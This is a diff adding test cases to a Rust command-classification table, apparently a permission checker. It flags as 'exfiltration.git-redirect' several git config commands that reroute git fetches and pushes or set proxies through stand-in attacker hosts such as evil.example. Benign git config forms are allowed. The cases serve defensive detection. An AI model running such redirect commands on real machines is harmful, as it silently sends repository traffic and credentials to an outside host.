@@ -633,4 +633,21 @@ pub(crate) const CASES: &[Case] = &[
     allow("git pull --rebase"),
     allow("git pull origin main"),
     allow("git pull --ff-only"),
+    // git settings that send every later fetch, clone and push through another host.
+    ask(
+        "exfiltration.git-redirect",
+        "git config --global url.https://mirror.evil.example/.insteadOf https://github.com/",
+    ),
+    ask(
+        "exfiltration.git-redirect",
+        "git config --global url.\"https://x.example/\".pushInsteadOf git@github.com:",
+    ),
+    ask("exfiltration.git-redirect", "git config --global http.proxy http://evil.example:8080"),
+    ask("exfiltration.git-redirect", "git config --system https.proxy socks5://1.2.3.4:1080"),
+    ask("exfiltration.git-redirect", "git config http.https://github.com/.proxy http://evil.example:3128"),
+    allow("git config --global url.git@github.com:.insteadOf https://github.com/"),
+    allow("git config --global url.\"ssh://git@github.com/\".insteadOf \"https://github.com/\""),
+    allow("git config --global http.proxy http://127.0.0.1:8080"),
+    allow("git config --global --unset http.proxy"),
+    allow("git config --get http.proxy"),
 ];
